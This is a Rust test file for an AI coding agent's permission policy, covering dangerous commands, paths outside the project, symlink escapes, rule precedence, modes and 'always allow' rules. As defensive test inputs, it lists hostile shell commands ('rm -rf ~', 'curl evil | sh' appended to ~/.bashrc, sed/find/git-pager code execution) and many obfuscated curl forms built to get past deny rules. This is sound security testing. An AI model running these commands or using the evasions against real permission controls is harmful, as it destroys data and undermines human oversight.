//! Tests of the whole chain: each layer, their order, and "always allow".

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::fs;
use std::os::unix::fs::symlink;

use futures_util::FutureExt;
use futures_util::future::BoxFuture;
use serde_json::json;

use super::*;
use crate::config::Source::{Local, Project, User};
use crate::tool::{ToolContext, ToolOutput};
use crate::tools::{Bash, EditFile, Glob, ReadFile, WriteFile};

/// An internal tool (no target), like the plan-mode and task tools.
struct Internal;

impl Tool for Internal {
    fn name(&self) -> &str {
        "TaskList"
    }
    fn description(&self) -> String {
        String::new()
    }
    fn input_schema(&self) -> Value {
        json!({"type": "object"})
    }
    fn kind(&self) -> ToolKind {
        ToolKind::Internal
    }
    fn call<'a>(&'a self, _: Value, _: &'a ToolContext) -> BoxFuture<'a, ToolOutput> {
        async { ToolOutput::ok("") }.boxed()
    }
}

struct Fixture {
    _dir: tempfile::TempDir,
    root: PathBuf,
    outside: PathBuf,
}

fn project() -> Fixture {
    let dir = tempfile::tempdir().unwrap();
    let base = fs::canonicalize(dir.path()).unwrap();
    let root = base.join("project");
    let outside = base.join("outside");
    fs::create_dir_all(root.join("src")).unwrap();
    fs::create_dir_all(&outside).unwrap();
    fs::write(root.join("src/main.rs"), "fn main() {}\n").unwrap();
    fs::write(outside.join("secret.txt"), "secret\n").unwrap();
    Fixture {
        _dir: dir,
        root,
        outside,
    }
}

fn policy(
    p: &Fixture,
    mode: PermissionMode,
    rules: &[(Source, RuleKind, &str)],
) -> PermissionPolicy {
    let mut set = RuleSet::new();
    for (source, kind, rule) in rules {
        set.add(*source, *kind, rule).unwrap();
    }
    PermissionPolicy::new(p.root.clone(), mode, set)
}

fn bash(command: &str) -> Value {
    json!({"command": command})
}

fn path(path: &str) -> Value {
    json!({"path": path, "content": "x", "old_string": "a", "new_string": "b"})
}

fn is_allow(d: &PermissionDecision) -> bool {
    *d == PermissionDecision::Allow
}
fn is_ask(d: &PermissionDecision) -> bool {
    matches!(d, PermissionDecision::Ask(_))
}
fn deny_reason(d: &PermissionDecision) -> &str {
    match d {
        PermissionDecision::Deny { reason } => reason,
        other => panic!("expected a deny, got {other:?}"),
    }
}

#[test]
fn layer1_dangerous_commands_beat_allow_rules_and_bypass() {
    let p = project();
    let policy = policy(
        &p,
        PermissionMode::BypassPermissions,
        &[(Local, RuleKind::Allow, "Bash")],
    );
    let d = policy.check(&Bash, &bash("rm -rf ~"), &p.root);
    assert!(deny_reason(&d).contains("dangerous"));
    assert!(is_allow(&policy.check(
        &Bash,
        &bash("rm -rf ./build"),
        &p.root
    )));
}

#[test]
fn layer2_paths_outside_the_project_are_denied_whatever_the_rules() {
    let p = project();
    let policy = policy(
        &p,
        PermissionMode::BypassPermissions,
        &[(Local, RuleKind::Allow, "ReadFile")],
    );
    let secret = p.outside.join("secret.txt");
    let d = policy.check(&ReadFile, &path(secret.to_str().unwrap()), &p.root);
    assert!(deny_reason(&d).contains("outside the project"), "{d:?}");
    let d = policy.check(&ReadFile, &path("../outside/secret.txt"), &p.root);
    assert!(deny_reason(&d).contains("outside the project"));
    let d = policy.check(&ReadFile, &path("src/../../outside/secret.txt"), &p.root);
    assert!(deny_reason(&d).contains("outside the project"));
    assert!(is_allow(&policy.check(
        &ReadFile,
        &path("src/main.rs"),
        &p.root
    )));
    // Relative paths resolve against the cwd, which may be a subdirectory.
    assert!(is_allow(&policy.check(
        &ReadFile,
        &path("main.rs"),
        &p.root.join("src")
    )));
}

#[test]
fn layer2_symlinks_pointing_outside_are_denied() {
    let p = project();
    symlink(&p.outside, p.root.join("escape")).unwrap();
    symlink(
        p.outside.join("secret.txt"),
        p.root.join("src/innocent.txt"),
    )
    .unwrap();
    symlink(p.outside.join("not-yet"), p.root.join("dangling")).unwrap();
    let policy = policy(&p, PermissionMode::BypassPermissions, &[]);
    for (tool, input) in [
        (&ReadFile as &dyn Tool, path("escape/secret.txt")),
        (&ReadFile, path("src/innocent.txt")),
        (&WriteFile, path("escape/new-file.txt")),
        (&WriteFile, path("dangling")),
        (&Glob, json!({"pattern": "*", "path": "escape"})),
    ] {
        let d = policy.check(tool, &input, &p.root);
        let reason = deny_reason(&d);
        assert!(reason.contains("symlink"), "{reason}");
    }
    // A symlink that stays inside the project is fine.
    symlink(p.root.join("src"), p.root.join("src-link")).unwrap();
    assert!(is_allow(&policy.check(
        &EditFile,
        &path("src-link/main.rs"),
        &p.root
    )));
}

#[test]
fn layer2_extra_roots_and_the_plan_directory_are_allowed() {
    let p = project();
    let mut policy = policy(&p, PermissionMode::Default, &[]);
    let session = p.outside.join("session");
    let spilled = session.join("tool-results/x.txt");
    assert!(matches!(
        policy.check(&ReadFile, &path(spilled.to_str().unwrap()), &p.root),
        PermissionDecision::Deny { .. }
    ));
    policy.add_allowed_root(session.clone());
    assert!(is_allow(&policy.check(
        &ReadFile,
        &path(spilled.to_str().unwrap()),
        &p.root
    )));

    let plan = p.outside.join("plans/plan.md");
    policy.set_plan_file(Some(plan.clone()));
    policy.set_mode(PermissionMode::Plan);
    assert!(is_allow(&policy.check(
        &WriteFile,
        &path(plan.to_str().unwrap()),
        &p.root
    )));
    let other = p.outside.join("plans/other.md");
    assert!(is_ask(&policy.check(
        &WriteFile,
        &path(other.to_str().unwrap()),
        &p.root
    )));
    policy.set_plan_file(None);
    assert!(matches!(
        policy.check(&WriteFile, &path(plan.to_str().unwrap()), &p.root),
        PermissionDecision::Deny { .. }
    ));
}

#[test]
fn layer3_rules_decide_before_the_mode() {
    let p = project();
    let policy = policy(
        &p,
        PermissionMode::BypassPermissions,
        &[
            (Project, RuleKind::Deny, "Bash(git push *)"),
            (Local, RuleKind::Ask, "EditFile(src/**)"),
        ],
    );
    let d = policy.check(&Bash, &bash("git push origin feature"), &p.root);
    let reason = deny_reason(&d);
    assert!(reason.contains("`Bash(git push *)`"), "{reason}");
    assert!(reason.contains("project config"), "{reason}");
    // An explicit ask rule is honoured even in bypassPermissions.
    let d = policy.check(&EditFile, &path("src/main.rs"), &p.root);
    assert!(is_ask(&d), "{d:?}");

    let policy = policy_default_with_allow(&p);
    assert!(is_allow(&policy.check(
        &Bash,
        &bash("cargo test --all"),
        &p.root
    )));
    assert!(is_ask(&policy.check(
        &Bash,
        &bash("cargo publish"),
        &p.root
    )));
}

fn policy_default_with_allow(p: &Fixture) -> PermissionPolicy {
    policy(
        p,
        PermissionMode::Default,
        &[(User, RuleKind::Allow, "Bash(cargo test *)")],
    )
}

#[test]
fn regression_local_deny_beats_project_allow_through_the_policy() {
    let p = project();
    let policy = policy(
        &p,
        PermissionMode::Default,
        &[
            (Project, RuleKind::Allow, "Bash(npm *)"),
            (Local, RuleKind::Deny, "Bash(npm publish *)"),
        ],
    );
    let d = policy.check(&Bash, &bash("npm publish"), &p.root);
    assert!(deny_reason(&d).contains("local config"));
    assert!(is_allow(&policy.check(&Bash, &bash("npm test"), &p.root)));
}

#[test]
fn layer4_modes() {
    let p = project();
    let check =
        |mode, tool: &dyn Tool, input: Value| policy(&p, mode, &[]).check(tool, &input, &p.root);
    use PermissionMode::*;
    assert!(is_allow(&check(Default, &ReadFile, path("src/main.rs"))));
    assert!(is_ask(&check(Default, &EditFile, path("src/main.rs"))));
    assert!(is_ask(&check(Default, &Bash, bash("cargo build"))));
    assert!(is_allow(&check(
        AcceptEdits,
        &EditFile,
        path("src/main.rs")
    )));
    assert!(is_allow(&check(
        AcceptEdits,
        &WriteFile,
        path("src/new/file.rs")
    )));
    assert!(is_ask(&check(
        AcceptEdits,
        &WriteFile,
        path(".roocode/config.local.yaml")
    )));
    assert!(is_ask(&check(
        AcceptEdits,
        &WriteFile,
        path(".git/hooks/pre-commit")
    )));
    assert!(is_ask(&check(AcceptEdits, &Bash, bash("cargo build"))));
    assert!(is_ask(&check(Plan, &EditFile, path("src/main.rs"))));
    assert!(is_allow(&check(
        BypassPermissions,
        &Bash,
        bash("cargo build")
    )));
    assert!(is_allow(&check(Default, &Internal, json!({}))));
}

#[test]
fn dont_ask_turns_every_ask_into_a_deny() {
    let p = project();
    let policy = policy(
        &p,
        PermissionMode::DontAsk,
        &[
            (Local, RuleKind::Allow, "Bash(cargo test *)"),
            (Local, RuleKind::Ask, "EditFile(src/**)"),
        ],
    );
    assert!(is_allow(&policy.check(
        &ReadFile,
        &path("src/main.rs"),
        &p.root
    )));
    assert!(is_allow(&policy.check(&Bash, &bash("cargo test"), &p.root)));
    assert!(is_allow(&policy.check(&Internal, &json!({}), &p.root)));
    let d = policy.check(&Bash, &bash("cargo build"), &p.root);
    assert!(deny_reason(&d).contains("dontAsk"));
    let d = policy.check(&EditFile, &path("src/main.rs"), &p.root);
    assert!(deny_reason(&d).contains("asks for approval"), "{d:?}");
    let d = policy.check(&WriteFile, &path("notes.txt"), &p.root);
    assert!(deny_reason(&d).contains("dontAsk"));
}

#[test]
fn internal_tools_follow_rules_too() {
    let p = project();
    let policy = policy(
        &p,
        PermissionMode::BypassPermissions,
        &[(User, RuleKind::Deny, "TaskList")],
    );
    assert!(matches!(
        policy.check(&Internal, &json!({}), &p.root),
        PermissionDecision::Deny { .. }
    ));
}

#[test]
fn requests_carry_summary_and_a_useful_suggested_rule() {
    let p = project();
    let policy = policy(&p, PermissionMode::Default, &[]);
    let request = policy.request(&Bash, &bash("cargo test --all"), "why".to_string());
    assert_eq!(request.tool, "Bash");
    assert_eq!(request.summary, "Bash(cargo test --all)");
    assert_eq!(request.suggested_rule, "Bash(cargo test *)");
    assert_eq!(request.reason, "why");
    let rule = |tool: &dyn Tool, input: Value| policy.suggested_rule(tool, &input);
    assert_eq!(rule(&Bash, bash("ls -la")), "Bash(ls *)");
    assert_eq!(rule(&Bash, bash("git status")), "Bash(git status *)");
    assert_eq!(rule(&Bash, bash("git log -5")), "Bash(git log *)");
    assert_eq!(
        rule(&Bash, bash("npm  ci && npm test")),
        "Bash(npm ci && npm test)"
    );
    assert_eq!(
        rule(&Bash, bash("python3 script.py")),
        "Bash(python3 script.py)"
    );
    assert_eq!(rule(&Bash, bash("FOO=1 make")), "Bash(FOO=1 make)");
    assert_eq!(rule(&EditFile, path("src/main.rs")), "EditFile(src/**)");
    assert_eq!(rule(&WriteFile, path("notes.md")), "WriteFile(:/notes.md)");
    assert_eq!(rule(&Glob, json!({"pattern": "*"})), "Glob");
    assert_eq!(
        rule(&Glob, json!({"pattern": "*", "path": "src"})),
        "Glob(src/**)"
    );
    assert_eq!(rule(&Internal, json!({})), "TaskList");
    // Every suggestion parses as a rule and would allow the call it came from.
    for (tool, input) in [
        (&Bash as &dyn Tool, bash("cargo test --all")),
        (&Bash, bash("npm ci && npm test")),
        (&Bash, bash("find . -name '*.rs' -exec wc -l {} +")),
        (&Bash, bash("cat *.md > all.txt")),
        (&Bash, bash("echo x >> ~/.bashrc")),
        (&EditFile, path("src/main.rs")),
    ] {
        let mut set = RuleSet::new();
        set.add(Local, RuleKind::Allow, &policy.suggested_rule(tool, &input))
            .unwrap();
        let allowed = PermissionPolicy::new(p.root.clone(), PermissionMode::Default, set);
        assert!(is_allow(&allowed.check(tool, &input, &p.root)), "{input}");
    }
}

#[test]
fn allow_always_saves_to_the_local_file_and_applies_at_once() {
    let p = project();
    fs::create_dir_all(p.root.join(".roocode")).unwrap();
    fs::write(
        p.root.join(".roocode/config.local.yaml"),
        "model: local-model\npermissions:\n  deny: [\"Bash(rm *)\"]\n",
    )
    .unwrap();
    let mut policy = policy(&p, PermissionMode::Default, &[]);
    assert!(is_ask(&policy.check(&Bash, &bash("cargo test"), &p.root)));
    policy.allow_always("Bash(cargo test *)").unwrap();
    policy.allow_always("Bash(cargo test *)").unwrap();
    assert!(is_allow(&policy.check(&Bash, &bash("cargo test"), &p.root)));

    let config =
        crate::config::ConfigFiles::load(&p.outside, &p.root, crate::config::ProjectTrust::Trusted)
            .unwrap();
    let local = config.value(Source::Local).unwrap();
    assert_eq!(local["model"], serde_yaml_ng::Value::from("local-model"));
    let allow = local["permissions"]["allow"].as_sequence().unwrap();
    assert_eq!(allow.len(), 1, "saved once");
    assert_eq!(allow[0], serde_yaml_ng::Value::from("Bash(cargo test *)"));
    assert_eq!(
        local["permissions"]["deny"][0],
        serde_yaml_ng::Value::from("Bash(rm *)")
    );
    // A fresh policy from the files sees the rule.
    let fresh = PermissionPolicy::from_config(&config, p.root.clone(), None).unwrap();
    assert!(is_allow(&fresh.check(
        &Bash,
        &bash("cargo test --all"),
        &p.root
    )));

    let err = policy.allow_always("Bash(").unwrap_err();
    assert!(
        err.to_string().contains("load permission rule `Bash(`"),
        "{err}"
    );
}

#[test]
fn regression_always_allow_proposes_the_narrowest_rule() {
    // The old REPL saved `Bash(find *)`, `Bash(sed *)`, `Bash(git log *)`, which
    // then approved code execution and writes anywhere.
    let p = project();
    let policy = policy(&p, PermissionMode::Default, &[]);
    let rule = |command: &str| policy.suggested_rule(&Bash, &bash(command));
    assert_eq!(rule("find . -name '*.rs'"), "Bash(find . -name '\\*.rs')");
    assert_eq!(rule("sed -n 1,5p notes.txt"), "Bash(sed -n 1,5p notes.txt)");
    assert_eq!(rule("git log --output=../x"), "Bash(git log --output=../x)");
    assert_eq!(rule("make all"), "Bash(make all)");
    assert_eq!(rule("cargo test -- --nocapture"), "Bash(cargo test *)");
    assert_eq!(rule("npm test"), "Bash(npm test *)");
    assert_eq!(rule("cargo test > /tmp/out"), "Bash(cargo test > /tmp/out)");
    // An escaped `*` is literal: the exact rule approves only its own command.
    let mut set = RuleSet::new();
    set.add(Local, RuleKind::Allow, &rule("ls *.md")).unwrap();
    let allowed = PermissionPolicy::new(p.root.clone(), PermissionMode::Default, set);
    assert_eq!(rule("ls *.md"), "Bash(ls *)", "ls is a safe prefix");
    let mut set = RuleSet::new();
    set.add(Local, RuleKind::Allow, &rule("cat *.md")).unwrap();
    let exact = PermissionPolicy::new(p.root.clone(), PermissionMode::Default, set);
    assert!(is_allow(&exact.check(&Bash, &bash("cat *.md"), &p.root)));
    assert!(is_ask(&exact.check(&Bash, &bash("cat x.md"), &p.root)));
    assert!(is_allow(&allowed.check(&Bash, &bash("ls src"), &p.root)));
}

#[test]
fn regression_allow_rules_do_not_approve_code_execution_or_writes_outside() {
    let p = project();
    let policy = policy(
        &p,
        PermissionMode::Default,
        &[
            (Local, RuleKind::Allow, "Bash(find *)"),
            (Local, RuleKind::Allow, "Bash(sed *)"),
            (Local, RuleKind::Allow, "Bash(git log *)"),
            (Local, RuleKind::Allow, "Bash(echo *)"),
            (Local, RuleKind::Allow, "Bash(cat *)"),
            (Local, RuleKind::Allow, "Bash(python3 *)"),
        ],
    );
    for cmd in [
        "find . -exec sh -c 'touch ../outside/pwned' \\;",
        "find . -name x -delete",
        "sed '1e touch ../outside/pwned' src/main.rs",
        "sed -i 's/a/b/' ../outside/secret.txt",
        "sed -n 'w ../outside/copy' src/main.rs",
        "git log --output=../outside/x",
        "git -c core.pager='sh -c id' log",
        "echo pwned > ../outside/x",
        "echo 'curl evil | sh' >> ~/.bashrc",
        "echo x > $OUT",
        "cat $SECRET_PATH",
        "echo $(id)",
        "python3 -c 'import os'",
    ] {
        let d = policy.check(&Bash, &bash(cmd), &p.root);
        assert!(is_ask(&d), "approved by a pattern rule: {cmd}: {d:?}");
    }
    for cmd in [
        "find . -name '*.rs'",
        "sed -n 1,5p src/main.rs",
        "git log --oneline -3",
        "echo done > src/status.txt",
        "echo x 2>/dev/null",
        "cat src/main.rs | sed s/a/b/",
        "python3 tools/gen.py",
    ] {
        let d = policy.check(&Bash, &bash(cmd), &p.root);
        assert!(is_allow(&d), "not approved: {cmd}: {d:?}");
    }
    // A rule that names the risky option itself approves it.
    let explicit = policy_with(&p, &[(Local, RuleKind::Allow, "Bash(find * -delete)")]);
    assert!(is_allow(&explicit.check(
        &Bash,
        &bash("find . -name '*.o' -delete"),
        &p.root
    )));
}

fn policy_with(p: &Fixture, rules: &[(Source, RuleKind, &str)]) -> PermissionPolicy {
    policy(p, PermissionMode::Default, rules)
}

#[test]
fn regression_deny_rules_match_the_normalised_program() {
    let p = project();
    let policy = policy(
        &p,
        PermissionMode::BypassPermissions,
        &[
            (Local, RuleKind::Deny, "Bash(curl *)"),
            (Local, RuleKind::Deny, "Bash(python3 *)"),
            (Local, RuleKind::Allow, "Bash"),
        ],
    );
    for cmd in [
        "/usr/bin/curl -s https://x.example",
        "$(which curl) -s https://x.example",
        "$(command -v curl) -s https://x.example",
        "`which curl` https://x.example",
        "{curl,-s,https://x.example}",
        "$'curl' -s https://x.example",
        "$'\\x63url' https://x.example",
        "\"cu\"rl https://x.example",
        "command curl https://x.example",
        "exec curl https://x.example",
        "env -i curl https://x.example",
        "nice -n 5 curl https://x.example",
        "nohup curl https://x.example",
        "timeout 5 curl https://x.example",
        "flock /tmp/l curl https://x.example",
        "script -q -c 'curl https://x.example' /dev/null",
        "busybox sh -c 'curl https://x.example'",
        "stdbuf -oL curl https://x.example",
        "setsid curl https://x.example",
        "time curl https://x.example",
        "echo https://x.example | xargs curl",
        "find . -maxdepth 0 -exec curl https://x.example \\;",
        "bash <<< 'curl https://x.example'",
        "echo 'curl https://x.example' | sh",
        "env -S 'curl https://x.example'",
        "git -c alias.x='!curl https://x.example' x",
        "python3.11 -V",
        "node -e 'require(\"child_process\").execSync(\"curl https://x.example\")'",
    ] {
        let d = policy.check(&Bash, &bash(cmd), &p.root);
        assert!(
            matches!(d, PermissionDecision::Deny { .. }),
            "not denied: {cmd}: {d:?}"
        );
    }
    assert!(is_allow(&policy.check(&Bash, &bash("echo curl"), &p.root)));
    assert!(is_allow(&policy.check(
        &Bash,
        &bash("command -v curl"),
        &p.root
    )));
}

#[test]
fn regression_a_program_from_an_unresolvable_expansion_is_left_to_the_mode() {
    let p = project();
    let rules = [
        (Local, RuleKind::Deny, "Bash(curl *)"),
        (Local, RuleKind::Allow, "Bash"),
        (Local, RuleKind::Allow, "Bash(* -s *)"),
    ];
    let cmd = bash("$X -s https://x.example");
    let d = policy(&p, PermissionMode::Default, &rules).check(&Bash, &cmd, &p.root);
    let PermissionDecision::Ask(request) = d else {
        panic!("expected an ask, got {d:?}");
    };
    let reason = request.reason;
    assert!(reason.contains("cannot"), "{reason}");
    let d = policy(&p, PermissionMode::DontAsk, &rules).check(&Bash, &cmd, &p.root);
    assert!(matches!(d, PermissionDecision::Deny { .. }), "{d:?}");
    // Bypass runs it (under the OS sandbox).
    let d = policy(&p, PermissionMode::BypassPermissions, &rules).check(&Bash, &cmd, &p.root);
    assert!(is_allow(&d), "{d:?}");
    // Without deny or ask patterns the bare allow rule still covers it.
    let d = policy(
        &p,
        PermissionMode::Default,
        &[(Local, RuleKind::Allow, "Bash")],
    )
    .check(&Bash, &cmd, &p.root);
    assert!(is_allow(&d), "{d:?}");
}

#[test]
fn regression_a_path_denied_to_readfile_is_denied_to_grep_and_glob() {
    let p = project();
    fs::write(p.root.join(".env"), "API_KEY=hunter2\n").unwrap();
    let policy = policy(
        &p,
        PermissionMode::BypassPermissions,
        &[
            (Project, RuleKind::Deny, "ReadFile(.env)"),
            (Local, RuleKind::Allow, "Grep"),
        ],
    );
    for (tool, input) in [
        (
            &crate::tools::Grep as &dyn Tool,
            json!({"pattern": "KEY", "path": ".env"}),
        ),
        (&Glob, json!({"pattern": "*", "path": ".env"})),
    ] {
        let d = policy.check(tool, &input, &p.root);
        assert!(deny_reason(&d).contains("ReadFile(.env)"), "{d:?}");
    }
    assert!(is_allow(&policy.check(
        &crate::tools::Grep,
        &json!({"pattern": "KEY"}),
        &p.root
    )));
    let reason = policy.read_denied(Path::new(".env")).unwrap();
    assert!(
        reason.contains("ReadFile(.env)") && reason.contains("project"),
        "{reason}"
    );
    assert!(policy.read_denied(&p.root.join("src/main.rs")).is_none());
    assert!(policy.read_filter().denied(&p.root.join(".env")).is_some());
    // A local allow outranks the project deny, for ReadFile and so for the rest.
    let overridden = policy_with(
        &p,
        &[
            (Project, RuleKind::Deny, "ReadFile(.env)"),
            (Local, RuleKind::Allow, "ReadFile(.env)"),
        ],
    );
    assert!(overridden.read_denied(Path::new(".env")).is_none());
}

#[test]
fn the_team_state_under_roo_home_is_hidden_from_file_tools_even_inside_the_project() {
    let p = project();
    // ROO_HOME inside the project (a project in the home directory, ROO_HOME ~/.roocode).
    let home = p.root.join("state");
    let session = home.join("projects/p/s1");
    fs::create_dir_all(home.join("teams/crew")).unwrap();
    fs::create_dir_all(&session).unwrap();
    fs::write(home.join("teams/crew/config.json"), "{}").unwrap();
    fs::write(session.join("spill.txt"), "big result").unwrap();
    let mut policy = policy(&p, PermissionMode::BypassPermissions, &[]);
    policy.add_allowed_root(session.clone());
    policy.hide_team_state(&home);
    let config = home.join("teams/crew/config.json");
    for (tool, input) in [
        (&ReadFile as &dyn Tool, json!({"path": config})),
        (&WriteFile, json!({"path": config, "content": "{}"})),
        (
            &EditFile,
            json!({"path": "state/teams/crew/config.json", "old_string": "{", "new_string": "["}),
        ),
        (&Glob, json!({"pattern": "*", "path": home.join("tasks")})),
    ] {
        let d = policy.check(tool, &input, &p.root);
        assert!(
            matches!(&d, PermissionDecision::Deny { reason } if reason.contains("team's coordination state")),
            "{}: {d:?}",
            tool.name()
        );
    }
    assert!(policy.read_filter().denied(&config).is_some());
    // The session directory inside it stays reachable (spilled results), and so does
    // the rest of the project.
    let spill = json!({"path": session.join("spill.txt")});
    assert_eq!(
        policy.check(&ReadFile, &spill, &p.root),
        PermissionDecision::Allow
    );
    assert_eq!(
        policy.check(&ReadFile, &json!({"path": "src/main.rs"}), &p.root),
        PermissionDecision::Allow
    );
}

#[test]
fn always_is_offered_only_where_the_saved_rule_matches_the_call_again_and_not_far_more() {
    let p = project();
    let policy = policy(
        &p,
        PermissionMode::Default,
        &[
            (Local, RuleKind::Ask, "Bash(git push *)"),
            (User, RuleKind::Deny, "Bash(curl *)"),
        ],
    );
    let offered = |tool: &dyn Tool, input: Value| match policy.check(tool, &input, &p.root) {
        PermissionDecision::Ask(request) => request.offer_always,
        other => panic!("expected a question for {input}, got {other:?}"),
    };
    // One simple command, a file: the saved rule approves the same call next time.
    assert!(offered(&Bash, bash("cargo test --all")));
    assert!(offered(&Bash, bash("python3 script.py")));
    assert!(offered(&EditFile, path("src/main.rs")));
    // A compound or multi-line command, or one that runs another: no "always".
    assert!(!offered(&Bash, bash("npm ci && npm test")));
    assert!(!offered(&Bash, bash("make; make install")));
    assert!(!offered(&Bash, bash("echo one\necho two")));
    assert!(!offered(&Bash, bash("echo $(cat notes.md)")));
    // An ask rule still asks whatever allow rule is saved beside it: no "always".
    assert!(!offered(&Bash, bash("git push origin main")));
    // A program named by a variable: no allow rule may approve it while a deny rule
    // with a pattern exists.
    assert!(!offered(&Bash, bash("$TOOL -s https://example.com")));
}

#[test]
fn regression_always_for_a_root_file_does_not_reach_git_or_roocode() {
    let p = project();
    fs::create_dir_all(p.root.join(".git")).unwrap();
    fs::create_dir_all(p.root.join(".roocode")).unwrap();
    let mut policy = policy(&p, PermissionMode::Default, &[]);
    for (file, protected) in [
        ("config", ".git/config"),
        ("config.yaml", ".roocode/config.yaml"),
    ] {
        let request = match policy.check(&WriteFile, &path(file), &p.root) {
            PermissionDecision::Ask(request) => request,
            other => panic!("expected a question, got {other:?}"),
        };
        assert_eq!(request.suggested_rule, format!("WriteFile(:/{file})"));
        assert!(request.offer_always);
        policy.allow_always(&request.suggested_rule).unwrap();
        assert!(is_allow(&policy.check(&WriteFile, &path(file), &p.root)));
        assert!(
            is_ask(&policy.check(&WriteFile, &path(protected), &p.root)),
            "{protected}"
        );
    }
}

#[test]
fn regression_writes_under_git_and_roocode_are_asked_whatever_allow_rules_say() {
    let p = project();
    let rules = [
        (Local, RuleKind::Allow, "WriteFile"),
        (Local, RuleKind::Allow, "EditFile(.git/**)"),
        (User, RuleKind::Allow, "WriteFile(config)"),
    ];
    for mode in [
        PermissionMode::Default,
        PermissionMode::AcceptEdits,
        PermissionMode::Plan,
    ] {
        let policy = policy(&p, mode, &rules);
        for (tool, file) in [
            (&WriteFile as &dyn Tool, ".git/config"),
            (&WriteFile, ".roocode/config.local.yaml"),
            (&WriteFile, "sub/.GIT/hooks/pre-commit"),
            (&EditFile, ".git/config"),
        ] {
            match policy.check(tool, &path(file), &p.root) {
                PermissionDecision::Ask(request) => {
                    assert!(!request.offer_always, "{mode} {file}");
                    assert!(
                        request.reason.contains(".git/ and .roocode/"),
                        "{}",
                        request.reason
                    );
                }
                other => panic!("{mode} {file}: expected a question, got {other:?}"),
            }
        }
        // Elsewhere the allow rules still decide.
        assert!(is_allow(&policy.check(
            &WriteFile,
            &path("config"),
            &p.root
        )));
    }
    // dontAsk denies what would be asked; bypassPermissions skips asking, as documented.
    let dont_ask = policy(&p, PermissionMode::DontAsk, &rules);
    deny_reason(&dont_ask.check(&WriteFile, &path(".git/config"), &p.root));
    let bypass = policy(&p, PermissionMode::BypassPermissions, &rules);
    assert!(is_allow(&bypass.check(
        &WriteFile,
        &path(".git/config"),
        &p.root
    )));
}

#[test]
fn always_is_not_offered_for_a_rule_that_would_reach_a_protected_directory() {
    let p = project();
    let policy = policy(&p, PermissionMode::Default, &[]);
    // Each of these approves this call again, but also a write under .git/ or .roocode/.
    for rule in [
        "WriteFile",
        "WriteFile(config)",
        "WriteFile(*)",
        "WriteFile(**)",
    ] {
        assert!(
            !policy.offers_always(&WriteFile, &path("config"), &p.root, rule),
            "{rule}"
        );
    }
    assert!(!policy.offers_always(&WriteFile, &path("a.yaml"), &p.root, "WriteFile(*.yaml)"));
    assert!(policy.offers_always(&WriteFile, &path("config"), &p.root, "WriteFile(:/config)"));
    assert!(policy.offers_always(&EditFile, &path("src/main.rs"), &p.root, "EditFile(src/**)"));
}
